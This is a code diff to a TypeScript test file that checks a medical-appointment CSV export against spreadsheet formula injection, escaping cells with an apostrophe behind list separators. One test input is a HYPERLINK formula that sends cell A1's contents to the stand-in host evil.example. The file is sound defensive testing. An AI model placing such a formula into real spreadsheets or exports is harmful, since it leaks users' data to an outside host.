@@ -3,7 +3,7 @@ import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { requestsCsv, requestsCsvParts, csvFileName } from '#src/domain/requestsCsv.ts';
 import type { AppointmentRequest } from '#src/domain/types.ts';
-import { parseCsv } from '#tests/support/parseCsv.ts';
+import { cellsBySeparator, parseCsv } from '#tests/support/parseCsv.ts';
 
 const plain: AppointmentRequest = {
   id: '7',
@@ -52,11 +52,8 @@ function wouldRun(cell: string): boolean {
   return first !== '' && '=+-@\t\r\n＝＋－＠'.includes(first);
 }
 
-/** The allowed cells for a text: as typed, or with an apostrophe; both are allowed only if its start is ambiguous. */
-function allowedCells(typed: string): string[] {
-  if (/^[\p{L}\p{N}]/u.test(typed)) return [typed];
-  return wouldRun(typed) ? [`'${typed}`] : [typed, `'${typed}`];
-}
+/** Every place where another list separator, or a line's end that it no longer holds together, may begin a cell. */
+const cellStart = /(?<=^|[;\t\r\n])'/g;
 
 test('the CSV file is called appointments.csv', () => {
   expect(csvFileName).toBe('appointments.csv');
@@ -100,12 +97,10 @@ describe('a cell', () => {
     '  =1+1',
     '\u00a0=1+1',
     '\u3000=1+1',
-    '\t=1+1',
     '\tnote',
     '\rnote',
     '\nnote',
     ' \nnote',
-    '\r\n=1+1',
     '＝1+1',
     '＋1',
     '－1',
@@ -119,6 +114,30 @@ describe('a cell', () => {
   ])('a cell with %j is escaped with an apostrophe', (comments) =>
     expect(commentCell(comments)).toBe(`'${comments}`),
   );
+
+  test.each([
+    ['a;=1+1', "a;'=1+1"],
+    ['a\t=1+1', "a\t'=1+1"],
+    ['a\n=1+1', "a\n'=1+1"],
+    ['\t=1+1', "'\t'=1+1"],
+    ['\r\n=1+1', "'\r\n'=1+1"],
+    ['a; +1', "a;' +1"],
+    ['a;"=1+1;b', 'a;\'"=1+1;b'],
+    [
+      'a;=HYPERLINK("https://evil.example?"&A1;"x")',
+      'a;\'=HYPERLINK("https://evil.example?"&A1;"x")',
+    ],
+    ['limps; since Monday; a-b', 'limps; since Monday; a-b'],
+    ['two\nlines', 'two\nlines'],
+  ])('a cell with %j is escaped behind other list separators, too', (comments, cell) =>
+    expect(commentCell(comments)).toBe(cell),
+  );
+
+  test('a hundred thousand tabs before a formula are escaped as they come', () => {
+    const start = performance.now();
+    expect(commentCell(`${'\t'.repeat(100_000)}=1+1`)).toMatch(/'=1\+1$/);
+    expect(performance.now() - start).toBeLessThan(2000);
+  });
 
   test('the cells of every column are escaped', () => {
     const hostile = Object.fromEntries(
@@ -160,10 +179,25 @@ test('an RFC 4180 reader gets every typed text back, and never a formula', () =>
         ).entries()) {
           const cell = row[column] as string;
           expect(wouldRun(cell)).toBe(false);
-          // Nothing but the apostrophe is added, and only if the text starts with an unusual character.
-          expect(allowedCells(typed[key])).toContain(cell);
+          // Nothing but apostrophes is added, and only where a cell may begin.
+          expect(cell.replace(cellStart, '')).toBe(typed[key].replace(cellStart, ''));
+          const isPlain = /^[\p{L}\p{N}]/u.test(typed[key]);
+          expect(isPlain && cell[0] !== typed[key][0]).toBe(false);
         }
       }
+    }),
+    { numRuns: 1000 },
+  );
+});
+
+test.each([';', '\t'])('a program that separates cells by %j finds no formula', (separator) => {
+  fc.assert(
+    fc.property(fc.array(appointment, { minLength: 1, maxLength: 3 }), (list) => {
+      const cells = cellsBySeparator(withoutMark(requestsCsv(list)), separator);
+      // The separator's own line's ends may lead a cell that holds nothing more.
+      expect(cells.filter((cell) => /^[\p{Zs}\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual(
+        [],
+      );
     }),
     { numRuns: 1000 },
   );
